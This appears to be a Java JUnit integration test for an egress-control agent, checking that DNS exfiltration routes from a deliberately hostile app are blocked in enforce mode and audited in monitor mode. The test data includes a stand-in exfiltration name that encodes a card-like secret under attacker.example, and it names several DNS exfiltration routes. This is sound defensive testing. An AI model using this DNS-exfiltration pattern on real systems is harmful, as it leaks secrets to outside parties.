package dev.primus.it;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.primus.it.apps.hostile.HostileLibraryApp;
import dev.primus.it.apps.hostile.LoggingDnsServer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.function.Executable;
import org.junit.jupiter.api.io.TempDir;

/**
 * DNS exfiltration under {@code egress.dns: enforce}, against a resolver the test controls: each
 * app runs in a network namespace of its own ({@code unshare -n -m}: loopback only), whose
 * {@code /etc/resolv.conf} is bind-mounted to name a {@link LoggingDnsServer} on 127.0.0.53. The
 * server's log is every query that left the app. Enforce mode: every route is refused and the
 * secret never reaches the log; monitor mode: every route goes through and is audited as
 * {@code would_deny}. Needs root, as CI and this machine have; without it the test fails.
 */
class HostileDnsIT {
    private static final String RESOLVER = "127.0.0.53";
    private static final String SECRET_NAME = "secret-4111111111111111.attacker.example";
    /** A reverse lookup names the address it asks about: 13.12.11.10.in-addr.arpa. */
    private static final String PRIVATE_ADDRESS = "10.11.12.13";
    private static final List<String> ROUTES = List.of("lookup", "jndi-dns", "raw-dns-socket", "raw-dns-channel",
            "raw-dns-gathering");

    private static ProbeApp startInNamespace(Path jdk, String mode, Path dir) throws Exception {
        Path config = dir.resolve(mode + ".yaml");
        Files.writeString(config, String.join("\n", "service: hostile-dns-it", "mode: " + mode, "egress:",
                "  default: deny", "  dns: enforce", "  allow:", "    - cidr: " + RESOLVER + "/32", "    - host: api.example",
                "audit:", "  sinks:", "    - type: file", "      path: " + dir.resolve(mode + "-audit.jsonl"), ""));
        Path resolvConf = dir.resolve("resolv.conf");
        Files.writeString(resolvConf, "nameserver " + RESOLVER + "\noptions attempts:1 timeout:1\n");
        Path log = dir.resolve(mode + "-queries.log");
        String java = jdk.resolve("bin/java").toString();
        String classPath = System.getProperty("java.class.path");
        String script = String.join("\n",
                "set -e",
                "ip link set lo up",
                "mount --bind '" + resolvConf + "' /etc/resolv.conf",
                "'" + java + "' -cp '" + classPath + "' " + LoggingDnsServer.class.getName() + " " + RESOLVER + " 53 '" + log + "' &",
                "for i in $(seq 1 200); do [ -f '" + log + "' ] && break; sleep 0.05; done",
                "exec '" + java + "' -javaagent:" + ForkedApp.AGENT_JAR + "=config=" + config + " -cp '" + classPath + "' "
                        + HostileLibraryApp.class.getName());
        return new ProbeApp(Jdks.name(jdk) + " " + mode + " in a namespace",
                ForkedApp.command(List.of("unshare", "-n", "-m", "sh", "-c", script)));
    }

    private static String command(String route, String name) {
        return route + " " + name + " " + RESOLVER + " 53";
    }

    @Test
    void noRouteCarriesASecretNameOrAPrivateAddressToTheResolverInEnforceMode(@TempDir Path dir) throws Exception {
        List<Executable> checks = new ArrayList<>();
        for (Path jdk : Jdks.all()) {
            Path jdkDir = Files.createDirectories(dir.resolve(Jdks.name(jdk)));
            try (ProbeApp app = startInNamespace(jdk, "enforce", jdkDir)) {
                for (String route : ROUTES) {
                    String result = app.run(command(route, SECRET_NAME));
                    checks.add(() -> assertTrue(result.contains("DENIED") && result.contains("egress.dns"),
                            app.name() + " by " + route + ": " + result));
                }
                String reverse = app.run(command("reverse-lookup", PRIVATE_ADDRESS));
                checks.add(() -> assertEquals("route reverse-lookup; answered " + PRIVATE_ADDRESS, reverse,
                        app.name() + ": a denied reverse lookup answers the literal, as a failed one does"));
                String allowed = app.run(command("raw-dns-socket", "api.example"));
                checks.add(() -> assertEquals("route raw-dns-socket; sent", allowed, app.name() + ": an allowed name"));
                // The allowed query is the marker: once it is in the log, everything sent before it is too.
                List<String> queries = AuditTrail.awaitLinesMatching(jdkDir.resolve("enforce-queries.log"),
                        "api.example"::equals);
                checks.add(() -> assertTrue(queries.contains("api.example"), app.name() + ": the resolver answers: " + queries));
                checks.add(() -> assertTrue(queries.stream().noneMatch(q -> q.contains("secret-4111111111111111")
                        || q.contains("13.12.11.10")), app.name() + ": nothing denied reached the resolver: " + queries));
            }
        }
        assertAll(checks);
    }

    @Test
    void everyRouteGoesThroughAndIsAuditedInMonitorMode(@TempDir Path dir) throws Exception {
        for (Path jdk : Jdks.all()) {
            Path jdkDir = Files.createDirectories(dir.resolve(Jdks.name(jdk)));
            try (ProbeApp app = startInNamespace(jdk, "monitor", jdkDir)) {
                for (String route : List.of("jndi-dns", "raw-dns-socket", "raw-dns-channel")) {
                    String result = app.run(command(route, route + "." + SECRET_NAME));
                    assertTrue(!result.contains("DENIED"), app.name() + " by " + route + ": " + result);
                }
                List<String> queries = AuditTrail.awaitLinesMatching(jdkDir.resolve("monitor-queries.log"),
                        q -> q.startsWith("jndi-dns."), q -> q.startsWith("raw-dns-socket."), q -> q.startsWith("raw-dns-channel."));
                assertEquals(3, queries.stream().filter(q -> q.endsWith(SECRET_NAME)).count(), app.name() + ": " + queries);
                List<String> audit = AuditTrail.awaitLinesMatching(jdkDir.resolve("monitor-audit.jsonl"),
                        line -> line.contains("\"outcome\":\"would_deny\"") && line.contains("raw-dns-channel." + SECRET_NAME));
                assertTrue(audit.stream().anyMatch(line -> line.contains("\"outcome\":\"would_deny\"")
                        && line.contains("raw-dns-channel." + SECRET_NAME)), app.name() + ": " + audit);
            }
        }
    }
}
